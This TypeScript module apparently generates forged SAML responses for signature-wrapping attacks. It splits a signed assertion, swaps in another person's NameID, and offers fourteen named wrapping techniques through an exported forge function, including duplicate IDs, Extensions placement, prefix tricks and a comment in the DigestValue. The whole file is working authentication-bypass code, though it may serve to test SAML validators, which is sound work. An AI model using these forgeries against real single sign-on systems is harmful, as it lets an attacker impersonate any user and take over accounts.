interface Parts {
  xml: string;
  /** The signed assertion, and the same without its signature. */
  signed: string;
  bare: string;
  signature: string;
  /** Unsigned assertion naming another person. */
  evil: string;
}

const signaturePattern = /<(?:ds:)?Signature\b.*?<\/(?:ds:)?Signature>/s;

function partsOf(xml: string, name: string): Parts {
  const signed = /<saml:Assertion\b.*<\/saml:Assertion>/s.exec(xml)?.[0] ?? "";
  const signature = signaturePattern.exec(signed)?.[0] ?? "";
  const bare = signed.replace(signature, "");
  const evil = bare
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${name}`)
    .replace(/ ID="[^"]*"/, ' ID="_evil"');
  return { xml, signed, bare, signature, evil };
}

/** Element with content appended inside it. */
function within(element: string, more: string): string {
  return element.replace(/(<\/[\w:]+>)$/, () => `${more}${/<\/[\w:]+>$/.exec(element)?.[0] ?? ""}`);
}

const object = (content: string): string =>
  `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${content}</ds:Object>`;

/** Response up to the assertion, and the signature over the whole. */
function outer({ xml, signed }: Parts): { head: string; signature: string } {
  const [head = ""] = xml.split(signed);
  const signature = signaturePattern.exec(head)?.[0] ?? "";
  return { head, signature };
}

/** Forged response with another id and person; `place` adds the signed original. */
function evilResponse(
  parts: Parts,
  place: (original: string, signature: string) => string,
): string {
  const { head, signature } = outer(parts);
  const original = parts.xml.replace(signature, "");
  const changed = head.replace(/ ID="[^"]*"/, ' ID="_evilResponse"');
  return `${changed.replace(signature, () => place(original, signature))}${parts.evil}</samlp:Response>`;
}

const swap = ({ xml, signed }: Parts, by: string): string => xml.replace(signed, () => by);

/** Signature wrapping: ways to pass off unsigned content as signed. */
export const wrappings: Readonly<Record<string, (parts: Parts) => string>> = {
  "the signed answer inside its signature, in a forged answer": (parts) =>
    evilResponse(parts, (original, signature) => within(signature, object(original))),
  "the signed answer beside its signature, in a forged answer": (parts) =>
    evilResponse(parts, (original, signature) => `${original}${signature}`),
  "a forged assertion before the signed one": (parts) => swap(parts, parts.evil + parts.signed),
  "a forged assertion after the signed one": (parts) => swap(parts, parts.signed + parts.evil),
  "the signed assertion inside a forged one": (parts) =>
    swap(parts, within(parts.evil, parts.signed)),
  "a forged assertion with the signature, and the signed one at the end": (parts) =>
    swap(
      parts,
      parts.evil.replace("</saml:Issuer>", `</saml:Issuer>${parts.signature}`) + parts.bare,
    ),
  "the signed assertion inside its signature, in a forged one": (parts) =>
    swap(
      parts,
      parts.evil.replace(
        "</saml:Issuer>",
        `</saml:Issuer>${within(parts.signature, object(parts.bare))}`,
      ),
    ),
  "a forged assertion among extensions": (parts) =>
    swap(parts, `<samlp:Extensions>${parts.evil}</samlp:Extensions>${parts.signed}`),
  "the signed assertion among extensions": (parts) =>
    swap(parts, `<samlp:Extensions>${parts.signed}</samlp:Extensions>${parts.evil}`),
  "a forged assertion with the same id, first": (parts) => {
    const id = / ID="([^"]*)"/.exec(parts.signed)?.[1] ?? "";
    return swap(parts, parts.evil.replace("_evil", id) + parts.signed);
  },
  "a forged assertion with the same id, last": (parts) => {
    const id = / ID="([^"]*)"/.exec(parts.signed)?.[1] ?? "";
    return swap(parts, parts.signed + parts.evil.replace("_evil", id));
  },
  "a forged assertion by another prefix": (parts) =>
    swap(
      parts,
      parts.evil.replaceAll("saml:", "x:").replace("xmlns:saml", "xmlns:x") + parts.signed,
    ),
  "a signature that says twice what it signs": (parts) => {
    const info = /<(?:ds:)?SignedInfo>.*<\/(?:ds:)?SignedInfo>/s.exec(parts.signature)?.[0] ?? "";
    const twice = parts.signature.replace(info, () => info + info);
    return swap(parts, parts.evil.replace("</saml:Issuer>", `</saml:Issuer>${twice}`));
  },
  "a comment in the hash that was signed": (parts) =>
    swap(
      parts,
      parts.signed
        .replace(/(<(?:ds:)?DigestValue>)/, "$1<!--AAAA-->")
        .replace(/(<saml:NameID[^>]*>)[^<]*/, "$1p-evil"),
    ),
};

export function forge(kind: string, xml: string, name: string): string {
  const wrap = wrappings[kind];
  if (!wrap) throw new Error(`no such forgery: ${kind}`);
  return wrap(partsOf(xml, name));
}
